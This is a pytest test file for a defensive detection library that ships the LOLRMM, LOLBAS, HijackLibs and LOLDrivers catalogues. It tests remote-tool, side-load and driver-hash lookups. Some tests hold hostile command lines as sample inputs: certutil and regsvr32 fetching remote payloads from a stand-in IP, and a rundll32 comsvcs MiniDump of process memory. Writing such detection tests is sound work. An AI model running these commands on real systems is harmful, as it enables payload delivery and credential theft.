"""The dual-use catalogues as shipped (LOLRMM, LOLBAS, HijackLibs, LOLDrivers): provenance that matches the data,
GPL-3.0 data beside its licence, and lookups on real entries."""

from __future__ import annotations

import pytest

from vigil.knowledge import hijacklibs, lolbas, loldrivers, lolrmm
from vigil.knowledge.bundle import bundle_dir, bundles, read_json
from vigil.knowledge.loldrivers import DriverCategory

DUAL_USE = {
    lolrmm.BUNDLE: ("Apache-2.0", lolrmm.DATA_FILE),
    lolbas.BUNDLE: ("GPL-3.0-only", lolbas.DATA_FILE),
    hijacklibs.BUNDLE: ("GPL-3.0-only", hijacklibs.DATA_FILE),
    loldrivers.BUNDLE: ("Apache-2.0", loldrivers.DATA_FILE),
}


def test_provenance_lists_each_dual_use_bundle_with_its_licence_file_beside_the_data() -> None:
    shipped = {bundle.name: bundle for bundle in bundles()}
    for name, (licence, data_file) in DUAL_USE.items():
        bundle = shipped[name]
        assert bundle.licence == licence and len(bundle.commit) == 40
        assert bundle.files == [data_file, "LICENSE"] and bundle.licence_file == "LICENSE"
        assert (bundle_dir(name) / "LICENSE").is_file()
    for name in (lolbas.BUNDLE, hijacklibs.BUNDLE):
        assert "GNU GENERAL PUBLIC LICENSE" in (bundle_dir(name) / "LICENSE").read_text(encoding="utf-8")


def test_counts_are_the_data_each_bundle_holds() -> None:
    shipped = {bundle.name: bundle for bundle in bundles()}
    tools = read_json(lolrmm.BUNDLE, lolrmm.DATA_FILE)["tools"]
    assert shipped[lolrmm.BUNDLE].counts["tools"] == len(tools)
    binaries = read_json(lolbas.BUNDLE, lolbas.DATA_FILE)["binaries"]
    assert shipped[lolbas.BUNDLE].counts["commands"] == sum(len(binary["commands"]) for binary in binaries)
    dlls = read_json(hijacklibs.BUNDLE, hijacklibs.DATA_FILE)["dlls"]
    assert shipped[hijacklibs.BUNDLE].counts["dlls"] == len(dlls)
    drivers = read_json(loldrivers.BUNDLE, loldrivers.DATA_FILE)
    counts = shipped[loldrivers.BUNDLE].counts
    assert counts["drivers"] == len(drivers["drivers"])
    assert counts["sha256"] + counts["sha1"] + counts["md5"] == len(drivers["hashes"])


@pytest.mark.parametrize(
    ("value", "tool"),
    [
        ("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk"),
        ("TeamViewer.exe", "TeamViewer"),
        ("SCREENCONNECT.CLIENTSERVICE.EXE", "ScreenConnect"),
        ("screenconnect.windowsclient.exe", "ScreenConnect"),  # by the catalogue's pattern screenconnect*.exe
        ("taniumclient.exe", "Tanium"),
    ],
)
def test_remote_tools_are_found_by_executable(value: str, tool: str) -> None:
    assert tool in {found.name for found in lolrmm.by_executable(value)}


def test_remote_tools_are_found_by_domain_and_generic_names_are_not_tools() -> None:
    assert [tool.name for tool in lolrmm.by_domain("relay-0b1c2d3e.net.anydesk.com")] == ["AnyDesk"]
    assert [tool.name for tool in lolrmm.by_domain("AnyDesk.com.")] == ["AnyDesk"]
    assert lolrmm.by_domain("notanydesk.com") == ()
    assert lolrmm.by_domain("github.com") == () and lolrmm.by_domain("s3.amazonaws.com") == ()
    assert lolrmm.by_executable("setup.exe") == () and lolrmm.by_executable("dwm.exe") == ()
    assert lolrmm.by_executable("notepad.exe") == ()


def test_a_command_line_resembles_the_catalogued_abuse_of_its_binary() -> None:
    download = lolbas.abuse(
        "C:\\Windows\\System32\\certutil.exe", "certutil.exe /urlcache /split /f http://203.0.113.9/a.exe a.exe"
    )
    assert download is not None
    assert (download.command.binary, download.command.category, download.command.technique) == (
        "Certutil.exe",
        "Download",
        "T1105",
    )
    assert download.matched == ("-urlcache", "-f")  # windash: /urlcache is -urlcache
    dump = lolbas.abuse("rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full")
    assert dump is not None and dump.command.category == "Dump"
    scriptlet = lolbas.abuse("regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/f.sct scrobj.dll")
    assert scriptlet is not None and scriptlet.command.category == "AWL Bypass"


def test_everyday_command_lines_resemble_no_abuse() -> None:
    assert lolbas.abuse("certutil.exe", "certutil.exe -store my") is None
    assert lolbas.abuse("msiexec.exe", "msiexec.exe /i C:\\Windows\\ccmcache\\a\\agent.msi /qn") is None
    assert lolbas.abuse("mshta.exe", "mshta.exe C:\\Program Files\\App\\help.hta") is None  # no remote URL
    assert lolbas.abuse("notepad.exe", "notepad.exe -urlcache") is None
    assert lolbas.binary("C:\\Windows\\System32\\CERTUTIL.EXE") is not None
    assert lolbas.binary("notepad2.exe") is None


@pytest.mark.parametrize(
    "path",
    [
        "C:\\Windows\\System32\\version.dll",
        "c:\\windows\\syswow64\\VERSION.DLL",
        "\\Device\\HarddiskVolume3\\Windows\\System32\\version.dll",
        "D:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\sqlite.dll",  # %PROGRAMFILES% on any drive
    ],
)
def test_a_dll_in_an_expected_folder_is_no_side_load(path: str) -> None:
    assert hijacklibs.side_load(path) is None


def test_a_dll_outside_its_expected_folders_is_a_side_load_candidate_with_its_loader() -> None:
    found = hijacklibs.side_load("C:\\Users\\bob\\Downloads\\version.dll", "C:\\Users\\bob\\Downloads\\choice.exe")
    assert found is not None
    assert (found.dll.name, found.dll.expected) == ("version.dll", ("%SYSTEM32%", "%SYSWOW64%"))
    assert found.executable == ("%SYSTEM32%\\choice.exe", "Sideloading")
    assert hijacklibs.side_load("C:\\Windows\\System32\\notepad.exe") is None


def test_the_version_variable_is_one_path_segment() -> None:
    acrobat = hijacklibs.dll("acrodistdll.dll")
    assert acrobat is not None and acrobat.expected == ("%PROGRAMFILES%\\Adobe\\Acrobat %VERSION%\\Acrobat",)
    assert acrobat.expected_in("C:\\Program Files\\Adobe\\Acrobat 2020\\Acrobat")
    assert not acrobat.expected_in("C:\\Program Files\\Adobe\\Acrobat 2020\\x\\Acrobat")


def test_drivers_are_found_by_any_of_their_hashes() -> None:
    speedfan = [
        "22be050955347661685a4343c51f11c7811674e030386d2264cd12ecbf544b7c",
        "BFE55CACC7C56C9F7BD75BDB4B352C0B745D071B",
        "5f9785e7535f8f602cb294a54962c9e7",
    ]
    found = {loldrivers.by_hash(value) for value in speedfan}
    assert len(found) == 1
    driver = found.pop()
    assert driver is not None and driver.name == "speedfan.sys"
    assert driver.category is DriverCategory.VULNERABLE and driver.cves == ("CVE-2007-5633",)
    poortry = loldrivers.by_hash("090d409f86430e078694e621ad0bd5e458d32aa727f0eb99bda3961577df8d49")
    assert poortry is not None and poortry.category is DriverCategory.MALICIOUS
    assert loldrivers.by_hash("ab" * 32) is None and loldrivers.by_hash("not a hash") is None
